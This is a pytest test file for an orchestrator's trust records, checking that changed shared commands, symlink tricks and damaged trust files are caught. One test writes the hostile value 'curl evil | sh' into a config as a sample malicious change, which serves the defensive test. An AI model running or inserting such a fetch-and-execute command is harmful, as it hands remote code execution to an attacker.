"""What is trusted, by whom and where it is kept: real repositories, real files, real processes."""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from orchestrator.config import load_sourced
from orchestrator.errors import OrchError
from orchestrator.trust import Trust, look, record, record_first
from orchestrator.workplace import Workplace, open_workplace
from tests.support.project import ENVIRON

SHARED = """\
[run]
setup = ["make ready"]
[[gate]]
name = "unit"
command = "make test"
[worker.coder]
kind = "command"
command = "code"
"""
OWN_WORKER = '[worker.coder]\nkind = "command"\ncommand = "mine"\n'
LOCAL = ".agent/orch.local.toml"


class Clone:
    """A checkout with settings, and a person with files of their own."""

    def __init__(self, folder: Path) -> None:
        self.root = folder / "project"
        self.config = folder / "config"
        self.environ = {**ENVIRON, "ORCH_STATE_DIR": str(folder / "state")}
        self.git("init", "-q", "--initial-branch=main", str(self.root), at=folder)
        self.git("config", "user.name", "A Person")
        self.git("config", "user.email", "person@example.invalid")
        self.commit({".agent/orch.toml": SHARED, ".agent/.gitignore": "orch.local.toml\n"})

    def git(self, *args: str, at: Path | None = None) -> None:
        command = ("git", *args)
        subprocess.run(command, cwd=at or self.root, env=self.environ, check=True, timeout=60)

    def write(self, name: str, text: str) -> None:
        path = self.root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)

    def commit(self, files: dict[str, str]) -> None:
        for name, text in files.items():
            self.write(name, text)
        self.git("add", "-A", "-f")
        self.git("commit", "-q", "-m", "more")

    @property
    def workplace(self) -> Workplace:
        return open_workplace(self.root, self.environ)

    def look(self) -> Trust:
        return look(self.workplace, load_sourced(self.root, self.config))

    def trust(self) -> None:
        record(self.workplace, self.look())

    @property
    def file(self) -> Path:
        return self.workplace.place.trusted(os.geteuid())


@pytest.fixture
def clone(tmp_path: Path) -> Clone:
    return Clone(tmp_path)


def test_the_first_use_trusts_and_a_change_shows(clone: Clone) -> None:
    first = clone.look()
    assert first.standing == "first" and not clone.file.parent.exists()
    assert record_first(clone.workplace, first)
    assert clone.look().standing == "same"
    clone.write(".agent/orch.toml", SHARED.replace("make test", "curl evil | sh"))
    changed = clone.look()
    assert changed.standing == "changed"
    assert changed.changes() == (
        '-gate unit: command = "make test"',
        '+gate unit: command = "curl evil | sh"',
    )
    record(clone.workplace, changed)
    assert clone.look().standing == "same"
    clone.write(".agent/orch.toml", SHARED)
    assert clone.look().standing == "changed", "what was trusted once is not trusted for ever"


def test_it_is_kept_for_this_person_beside_the_ledger(clone: Clone) -> None:
    clone.trust()
    assert clone.file == clone.root / ".git" / "orch" / "trusted" / f"{os.geteuid()}.json"
    assert clone.file.stat().st_mode & 0o777 == 0o600
    assert clone.file.parent.stat().st_mode & 0o777 == 0o700
    kept = json.loads(clone.file.read_text())
    assert kept["commands"] == list(clone.look().now)
    assert kept["sha256"] == hashlib.sha256("\n".join(kept["commands"]).encode()).hexdigest()
    assert [one.name for one in clone.file.parent.iterdir()] == [clone.file.name]
    other = clone.workplace.place.trusted(os.geteuid() + 1)
    assert other != clone.file and not other.exists()


def test_two_clones_are_trusted_apart_and_two_worktrees_together(tmp_path: Path) -> None:
    (tmp_path / "one").mkdir()
    (tmp_path / "two").mkdir()
    one, two = Clone(tmp_path / "one"), Clone(tmp_path / "two")
    one.trust()
    assert (one.look().standing, two.look().standing) == ("same", "first")
    one.git("worktree", "add", "-q", "--detach", str(tmp_path / "linked"))
    workplace = open_workplace(tmp_path / "linked", one.environ)
    linked = look(workplace, load_sourced(tmp_path / "linked"))
    assert linked.standing == "same"
    # What was trusted goes with the repository, wherever that is moved.
    one.root.rename(tmp_path / "moved")
    moved = open_workplace(tmp_path / "moved", one.environ)
    assert look(moved, load_sourced(tmp_path / "moved")).standing == "same"


# --- a person's own files ---------------------------------------------------------------------


def test_a_persons_own_files_are_not_asked_about(clone: Clone) -> None:
    clone.trust()
    clone.write(
        LOCAL, '[run]\nworkspaces = "/var/mine"\n[worker.other]\nkind = "command"\ncommand="x"'
    )
    clone.config.mkdir()
    (clone.config / "orch.toml").write_text(OWN_WORKER.replace("coder", "mine"))
    assert load_sourced(clone.root, clone.config).settings.workspaces == "/var/mine"
    assert clone.look().standing == "same" and clone.look().counted == ()


def test_ones_own_worker_in_the_place_of_a_shared_one_changes_nothing(clone: Clone) -> None:
    clone.trust()
    clone.write(LOCAL, OWN_WORKER)
    assert load_sourced(clone.root).settings.workers["coder"].command == "mine"
    assert clone.look().standing == "same"
    clone.write(".agent/orch.toml", SHARED.replace('"code"', '"evil"'))
    assert clone.look().changes() == (
        '-worker coder: command = "code"',
        '+worker coder: command = "evil"',
    )


def track(clone: Clone) -> None:
    clone.commit({LOCAL: OWN_WORKER})


def track_in_other_letters(clone: Clone) -> None:
    """As a file system that ignores case would give it."""
    clone.commit({".Agent/ORCH.local.toml": OWN_WORKER})
    clone.write(LOCAL, OWN_WORKER)


def track_a_link(clone: Clone) -> None:
    outside = clone.root.parent / "outside.toml"
    outside.write_text(OWN_WORKER)
    (clone.root / LOCAL).symlink_to(outside)
    clone.commit({})


def track_what_a_link_means(clone: Clone) -> None:
    clone.commit({"hidden/own.toml": OWN_WORKER})
    (clone.root / LOCAL).symlink_to("../hidden/own.toml")


def track_a_link_in_the_middle(clone: Clone) -> None:
    outside = clone.root.parent / "outside.toml"
    outside.write_text(OWN_WORKER)
    (clone.root / "step").symlink_to(outside)
    clone.commit({})
    (clone.root / LOCAL).symlink_to("../step")


def track_a_linked_folder(clone: Clone) -> None:
    (clone.root / ".agent").rename(clone.root / "agent")
    (clone.root / ".agent").symlink_to("agent")
    clone.commit({"agent/orch.local.toml": OWN_WORKER})


def link_the_folder_outside(clone: Clone) -> None:
    outside = clone.root.parent / "outside"
    (clone.root / ".agent").rename(outside)
    (outside / "orch.local.toml").write_text(OWN_WORKER)
    (clone.root / ".agent").symlink_to(outside)
    clone.commit({})


def make_it_a_repository_within(clone: Clone) -> None:
    inner = clone.root / ".agent"
    clone.git("rm", "-rq", "--cached", ".agent")
    (inner / "orch.local.toml").write_text(OWN_WORKER)
    clone.git("init", "-q", at=inner)
    for key, value in (("user.name", "X"), ("user.email", "x@example.invalid")):
        clone.git("config", key, value, at=inner)
    clone.git("add", "-A", "-f", at=inner)
    clone.git("commit", "-q", "-m", "inner", at=inner)
    clone.git("-c", "advice.addEmbeddedRepo=false", "add", ".agent")
    clone.git("commit", "-q", "-m", "outer")


WAYS: list[Callable[[Clone], None]] = [
    track,
    track_in_other_letters,
    track_a_link,
    track_what_a_link_means,
    track_a_link_in_the_middle,
    track_a_linked_folder,
    link_the_folder_outside,
    make_it_a_repository_within,
]


@pytest.mark.parametrize("way", WAYS, ids=lambda way: way.__name__)
@pytest.mark.sample(3)
def test_a_file_of_ones_own_that_a_pull_can_change_counts_as_shared(
    clone: Clone, way: Callable[[Clone], None]
) -> None:
    clone.trust()
    way(clone)
    found = clone.look()
    assert found.counted == (LOCAL,)
    assert '+worker coder: command = "mine"' in found.changes()


def test_a_circle_of_links_is_gone_through_once(clone: Clone) -> None:
    clone.config.symlink_to(clone.config)
    assert clone.look().standing == "first"


def test_the_users_own_folder_counts_where_it_is_tracked(clone: Clone) -> None:
    """Somebody's home may be a repository, and theirs is not the only machine that pushes to it."""
    clone.config = clone.root / "dot" / "config"
    clone.write("dot/config/orch.toml", OWN_WORKER)
    clone.trust()
    assert clone.look().counted == ()
    clone.commit({})
    assert clone.look().counted == (str(clone.config / "orch.toml"),)


# --- files that say nothing ---------------------------------------------------------------------


def _with(change: Callable[[dict[str, object]], object]) -> Callable[[Path], None]:
    def damage(path: Path) -> None:
        kept = json.loads(path.read_text())
        change(kept)
        path.write_text(json.dumps(kept))

    return damage


def replace_by_folder(path: Path) -> None:
    path.unlink()
    path.mkdir()


def replace_by_pipe(path: Path) -> None:
    path.unlink()
    os.mkfifo(path)


def replace_by_link(path: Path) -> None:
    path.rename(path.with_suffix(".elsewhere"))
    path.symlink_to(path.with_suffix(".elsewhere"))


def grow(path: Path) -> None:
    with path.open("ab") as file:
        file.truncate(64 << 20)


DAMAGE: dict[str, Callable[[Path], None]] = {
    "empty": lambda path: path.write_bytes(b"") and None,
    "half": lambda path: path.write_bytes(path.read_bytes()[:-40]) and None,
    "no JSON": lambda path: path.write_bytes(b"\xff\xfe{}") and None,
    "nested": lambda path: path.write_bytes(b"[" * 100_000) and None,
    "a list": lambda path: path.write_text("[]") and None,
    "other commands": _with(lambda kept: kept.update(commands=["gate unit: command = 'x'"])),
    "a line less": _with(lambda kept: kept["commands"].pop()),  # type: ignore[attr-defined]
    "no text": _with(lambda kept: kept.update(commands=[1, None])),
    "another hash": _with(lambda kept: kept.update(sha256="0" * 64)),
    "no hash": _with(lambda kept: kept.pop("sha256")),
    "a newer version": _with(lambda kept: kept.update(version=2)),
    "a folder": replace_by_folder,
    "a pipe": replace_by_pipe,
    "a link": replace_by_link,
    "giant": grow,
    "others may write": lambda path: path.chmod(0o666),
}


@pytest.mark.parametrize("name", DAMAGE)
@pytest.mark.sample(5)
def test_a_file_that_is_not_as_it_was_written_trusts_nothing(clone: Clone, name: str) -> None:
    clone.trust()
    DAMAGE[name](clone.file)
    found = clone.look()
    assert found.standing == "unknown" and str(clone.file) in found.why
    assert found.changes() == tuple(f"+{line}" for line in found.now), "all of it is asked about"
    if name == "a folder":
        with pytest.raises(OrchError, match="cannot be kept"):
            record(clone.workplace, found)
        return
    clone.trust()
    assert clone.look().standing == "same"


@pytest.mark.skipif(os.geteuid() != 0, reason="only root gives files away")
def test_a_file_of_somebody_elses_trusts_nothing(clone: Clone) -> None:
    clone.trust()
    os.chown(clone.file, 12345, -1)
    assert clone.look().standing == "unknown"


def test_a_file_that_is_gone_from_where_orch_has_run_is_no_first_use(clone: Clone) -> None:
    from ledger.model import Plan, Task
    from orchestrator.start import RunOptions, start_run

    clone.trust()
    workplace = clone.workplace
    plan = Plan(goal="x", tasks=(Task(id="a", prompt="x"),))
    settings = load_sourced(clone.root).settings
    with workplace.store() as store:
        start_run(workplace, store, plan, "x", settings, RunOptions())
    clone.file.unlink()
    found = clone.look()
    assert found.standing == "unknown" and "has run here before" in found.why


def test_what_a_killed_orch_left_half_written_is_swept(clone: Clone) -> None:
    clone.trust()
    old, young = clone.file.parent / ".left", clone.file.parent / ".being-written"
    old.write_text("{")
    young.write_text("{")
    os.utime(old, (1, 1))
    clone.trust()
    assert not old.exists() and young.exists()


def test_a_difference_of_giants_is_not_looked_for_long(clone: Clone) -> None:
    many = ", ".join(f'"c{n}"' for n in range(30_000))
    clone.trust()
    clone.write(".agent/orch.toml", f"[run]\nfix = [{many}]\n")
    assert len(clone.look().changes()) == 30_000


# --- several at once ----------------------------------------------------------------------------

RACER = """\
import os, sys
from pathlib import Path
from orchestrator.config import load_sourced
from orchestrator.trust import look, record_first
from orchestrator.workplace import open_workplace
root, state, settings = map(Path, sys.argv[1:4])
workplace = open_workplace(root, {**os.environ, "ORCH_STATE_DIR": str(state)})
trust = look(workplace, load_sourced(settings))
print("ready", flush=True)
sys.stdin.readline()
was_first = record_first(workplace, trust)
print(trust.standing, was_first, look(workplace, load_sourced(settings)).standing)
"""


def racers(clone: Clone, folders: list[Path]) -> Iterator[str]:
    command = [sys.executable, "-c", RACER, str(clone.root), clone.environ["ORCH_STATE_DIR"]]
    started = [
        subprocess.Popen(
            [*command, str(folder)],
            env={**clone.environ, "PYTHONPATH": os.pathsep.join(sys.path)},
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            text=True,
        )
        for folder in folders
    ]
    for one in started:
        assert one.stdout is not None and one.stdout.readline() == "ready\n"
    for one in started:
        assert one.stdin is not None
        one.stdin.write("\n")
        one.stdin.flush()
    for one in started:
        yield one.communicate(timeout=60)[0].strip()


def test_of_first_uses_at_the_same_time_one_is_the_first(clone: Clone, tmp_path: Path) -> None:
    """All have seen that nothing was trusted; a pull came between them."""
    pulled = tmp_path / "pulled"
    (pulled / ".agent").mkdir(parents=True)
    (pulled / ".agent" / "orch.toml").write_text(SHARED.replace("make test", "evil"))
    said = list(racers(clone, [clone.root, pulled] * 3))
    assert sorted(line.split()[1] for line in said) == ["False"] * 5 + ["True"], said
    winner = next(at for at, line in enumerate(said) if "True" in line)
    for at, line in enumerate(said):
        assert line.split()[2] == ("same" if at % 2 == winner % 2 else "changed"), said
    assert [one.name for one in clone.file.parent.iterdir()] == [clone.file.name]
